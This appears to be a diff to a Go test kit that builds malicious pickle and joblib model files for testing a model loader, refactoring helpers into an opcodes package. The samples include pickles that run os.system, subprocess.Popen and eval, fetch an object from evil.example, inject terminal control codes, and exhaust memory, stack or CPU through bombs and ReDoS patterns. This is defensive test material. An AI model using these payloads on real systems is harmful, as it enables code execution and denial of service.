@@ -10,6 +10,8 @@ import (
 	"fmt"
 	"io"
 	"strings"
+
+	"github.com/serin-dev/serin/internal/testkit/opcodes"
 )
 
 // File is a file that a stranger made, and what it attempts.
@@ -46,14 +48,14 @@ func Models() []File {
 func programs() []File {
 	return []File{
 		{"system.pkl", "to run a command as Python loads it, as `os.system` in `__reduce__` does", pickled(command)},
-		{"popen.pkl", "to make a `subprocess.Popen`", pickled("csubprocess\nPopen\n" + str("id") + "\x85\x81")},
+		{"popen.pkl", "to make a `subprocess.Popen`", pickled("csubprocess\nPopen\n" + opcodes.Text("id") + "\x85\x81")},
 		{"eval.joblib", "to call `builtins.eval` by a name from the stack", []byte("\x80\x04\x8c\x08builtins\x8c\x04eval\x93\x8c\x011\x85R.")},
-		{"class.pkl", "to run `__setstate__` of a class of the file's author", pickled("cpayload\nModel\n)\x81}" + str("x") + "Nsb")},
-		{"kernel.pkl", "to hide a call in an attribute that the reader needs", pickled(object("sklearn.svm._classes.SVC", str("kernel"), command))},
-		{"callback.pkl", "to hide a call in an attribute of a good model that predicting does not need", pickled(linear(2, str("callback"), command))},
+		{"class.pkl", "to run `__setstate__` of a class of the file's author", pickled("cpayload\nModel\n)\x81}" + opcodes.Text("x") + "Nsb")},
+		{"kernel.pkl", "to hide a call in an attribute that the reader needs", pickled(opcodes.Object("sklearn.svm._classes.SVC", opcodes.Text("kernel"), command))},
+		{"callback.pkl", "to hide a call in an attribute of a good model that predicting does not need", pickled(linear(2, opcodes.Text("callback"), command))},
 		{"outside.pkl", "to have the reader fetch an object from elsewhere, by a persistent id", []byte("Phttp://evil.example/x\n.")},
 		{"registry.pkl", "to name a class by the registry of extensions", []byte("\x80\x02\x82\x01.")},
-		{"terminal.pkl", "to write control codes into a terminal or a status, by the name of a class", pickled("cevil\x1b[2J\nModel\x07\n)\x81}" + str("x") + "Nsb")},
+		{"terminal.pkl", "to write control codes into a terminal or a status, by the name of a class", pickled("cevil\x1b[2J\nModel\x07\n)\x81}" + opcodes.Text("x") + "Nsb")},
 	}
 }
 
@@ -61,21 +63,21 @@ func programs() []File {
 func graphs() []File {
 	doubled, nested := []string{remember(0, scaler(2))}, linear(2)
 	for i := range byte(12) {
-		doubled = append(doubled, remember(i+1, pipeline(strings.TrimSuffix(strings.Repeat(recall(i)+"\x86"+str("a"), 10), "\x86"+str("a")))))
+		doubled = append(doubled, remember(i+1, pipeline(strings.TrimSuffix(strings.Repeat(recall(i)+"\x86"+opcodes.Text("a"), 10), "\x86"+opcodes.Text("a")))))
 	}
 	for range 1000 {
 		nested = pipeline(nested)
 	}
 	itself := "]q\x00h\x00a"
-	columns := chosen(1, str("passthrough"), itself)
+	columns := chosen(1, opcodes.Text("passthrough"), itself)
 	return []File{
-		{"pipeline-in-itself.pkl", "to keep the reader busy forever: a Pipeline whose step is that Pipeline", []byte("\x80\x02csklearn.pipeline\nPipeline\n)\x81q\x00}" + str("steps") + "]" + str("a") + "h\x00\x86asb.")},
+		{"pipeline-in-itself.pkl", "to keep the reader busy forever: a Pipeline whose step is that Pipeline", []byte("\x80\x02csklearn.pipeline\nPipeline\n)\x81q\x00}" + opcodes.Text("steps") + "]" + opcodes.Text("a") + "h\x00\x86asb.")},
 		{"list-in-itself.pkl", "to overflow the stack: columns that are a list of which the first item is that list", pickled(pipeline(columns, linear(1)))},
 		{"nested.pkl", "to overflow the stack: a thousand Pipelines in each other", pickled(nested)},
 		{"doubled.pkl", "to become 10^12 estimators: each Pipeline mentions the one before ten times", pickled(recall(12), doubled...)},
-		{"copies.pkl", "to become 100 GB: one long text, encoded again and again", pickled("("+strings.Repeat("h\x00h\x01R", 100_000)+"l", remember(0, "c_codecs\nencode\n"), remember(1, str(strings.Repeat("x", 1<<20))+str("latin1")+"\x86"))},
-		{"mentions.pkl", "to fill the memory: a forest that mentions one tree 500,000 times", pickled(object("sklearn.ensemble._forest.RandomForestRegressor",
-			str("n_outputs_"), "K\x01", str("n_features_in_"), "K\x02", str("estimators_"), "]("+strings.Repeat(recall(0), 500_000)+"e"), remember(0, tree(2, node{-1, -1, 0})))},
+		{"copies.pkl", "to become 100 GB: one long text, encoded again and again", pickled("("+strings.Repeat("h\x00h\x01R", 100_000)+"l", remember(0, "c_codecs\nencode\n"), remember(1, opcodes.Text(strings.Repeat("x", 1<<20))+opcodes.Text("latin1")+"\x86"))},
+		{"mentions.pkl", "to fill the memory: a forest that mentions one tree 500,000 times", pickled(opcodes.Object("sklearn.ensemble._forest.RandomForestRegressor",
+			opcodes.Text("n_outputs_"), "K\x01", opcodes.Text("n_features_in_"), "K\x02", opcodes.Text("estimators_"), "]("+strings.Repeat(recall(0), 500_000)+"e"), remember(0, tree(2, node{-1, -1, 0})))},
 	}
 }
 
@@ -107,7 +109,7 @@ func closed(b *bytes.Buffer, w io.Closer) []byte {
 // costly are small, and become large.
 func costly() []File {
 	const size = 128 << 20
-	zeros := append([]byte("\x80\x03B"+whole(size)[1:]), make([]byte, size)...)
+	zeros := append([]byte("\x80\x03B"+opcodes.Int(size)[1:]), make([]byte, size)...)
 	all := []File{
 		{"zeros-gzip.joblib", "to fill the memory: 128 MB of zeros in 130 KB of gzip", gzipped(append(zeros, '.'))},
 		{"marks-zlib.joblib", "to fill the memory: ten million marks in 10 KB, which each take memory", deflated([]byte(strings.Repeat("(", 10_000_000)))},
@@ -121,25 +123,25 @@ func costly() []File {
 		}
 		all = append(all, File{b.name, b.attempts, data})
 	}
-	passed := "](" + strings.Repeat(str("a")+str("passthrough")+"\x86", 1000)
-	wide := object("sklearn.pipeline.FeatureUnion", str("transformer_list"), passed+str("b")+scaler(1<<17)+"\x86e")
+	passed := "](" + strings.Repeat(opcodes.Text("a")+opcodes.Text("passthrough")+"\x86", 1000)
+	wide := opcodes.Object("sklearn.pipeline.FeatureUnion", opcodes.Text("transformer_list"), passed+opcodes.Text("b")+scaler(1<<17)+"\x86e")
 	vectorizer := func(class string, more ...string) string {
-		return object("sklearn.feature_extraction.text."+class, append([]string{
-			str("lowercase"), "\x88", str("ngram_range"), "K\x01K\x01\x86", str("dtype"), "cnumpy\nfloat64\n", str("analyzer"), str("word"),
+		return opcodes.Object("sklearn.feature_extraction.text."+class, append([]string{
+			opcodes.Text("lowercase"), "\x88", opcodes.Text("ngram_range"), "K\x01K\x01\x86", opcodes.Text("dtype"), "cnumpy\nfloat64\n", opcodes.Text("analyzer"), opcodes.Text("word"),
 		}, more...)...)
 	}
-	vocabulary := str("vocabulary_") + "}" + str("a") + "K\x00s"
+	vocabulary := opcodes.Text("vocabulary_") + "}" + opcodes.Text("a") + "K\x00s"
 	return append(all,
 		File{"length.pkl", "to have a gigabyte allocated, of which the file has three bytes", []byte("\x80\x02B\x00\x00\x00\x40abc")},
-		File{"shape.pkl", "to overflow the product of a shape", pickled(array(dtype("f8"), "", math31, math31, math31))},
-		File{"rows.pkl", "to have 16 GB allocated for a matrix of 2^31-1 rows without columns", pickled(pipeline(object("sklearn.decomposition._pca.PCA",
-			str("components_"), array(dtype("f8"), "", math31, 0), str("mean_"), array(dtype("f8"), "", 0)), linear(2)))},
-		File{"features.pkl", "to make a block of 2^31 columns of a request of one: a vectorizer that says it has as many", pickled(pipeline(vectorizer("HashingVectorizer", str("n_features"), whole(math31), str("norm"), "N"), linear(2)))},
+		File{"shape.pkl", "to overflow the product of a shape", pickled(array(opcodes.Dtype("f8"), "", math31, math31, math31))},
+		File{"rows.pkl", "to have 16 GB allocated for a matrix of 2^31-1 rows without columns", pickled(pipeline(opcodes.Object("sklearn.decomposition._pca.PCA",
+			opcodes.Text("components_"), array(opcodes.Dtype("f8"), "", math31, 0), opcodes.Text("mean_"), array(opcodes.Dtype("f8"), "", 0)), linear(2)))},
+		File{"features.pkl", "to make a block of 2^31 columns of a request of one: a vectorizer that says it has as many", pickled(pipeline(vectorizer("HashingVectorizer", opcodes.Text("n_features"), opcodes.Int(math31), opcodes.Text("norm"), "N"), linear(2)))},
 		File{"columns.pkl", "to have gigabytes of metadata made: a ColumnTransformer of 50 million columns, the first of which is a text", pickled(pipeline(chosen(50_000_000,
-			object("sklearn.preprocessing._encoders.OneHotEncoder", str("handle_unknown"), str("ignore"), str("categories_"), "]"+array(dtype("U1"), "a\x00\x00\x00", 1)+"a"), "]K\x00a"), linear(1)))},
+			opcodes.Object("sklearn.preprocessing._encoders.OneHotEncoder", opcodes.Text("handle_unknown"), opcodes.Text("ignore"), opcodes.Text("categories_"), "]"+array(opcodes.Dtype("U1"), "a\x00\x00\x00", 1)+"a"), "]K\x00a"), linear(1)))},
 		File{"union.pkl", "to make a row of 1 GB of each of 1 MB: a FeatureUnion that passes its input through a thousand times", deflated(pickled(pipeline(wide, tree(1001<<17, node{-1, -1, 0}))))},
-		File{"pattern.pkl", "to take exponential time for a text: `(?:a+)+b` as a `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", str("token_pattern"), str("(?:a+)+b"), vocabulary), linear(1)))},
-		File{"repeats.pkl", "to make an automaton of a million states of a short `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", str("token_pattern"), str(`(?:(?:\w{30}a){30}b)`), vocabulary), linear(1)))},
+		File{"pattern.pkl", "to take exponential time for a text: `(?:a+)+b` as a `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", opcodes.Text("token_pattern"), opcodes.Text("(?:a+)+b"), vocabulary), linear(1)))},
+		File{"repeats.pkl", "to make an automaton of a million states of a short `token_pattern`", pickled(pipeline(vectorizer("CountVectorizer", opcodes.Text("token_pattern"), opcodes.Text(`(?:(?:\w{30}a){30}b)`), vocabulary), linear(1)))},
 	)
 }
 
